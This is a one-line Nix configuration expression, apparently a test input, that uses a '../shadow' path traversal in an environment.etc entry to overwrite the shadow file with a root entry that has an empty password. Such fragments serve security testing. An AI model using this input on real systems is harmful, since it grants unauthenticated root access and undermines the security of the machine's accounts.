{ environment.etc."../shadow".text = "root::0:0::::"; }
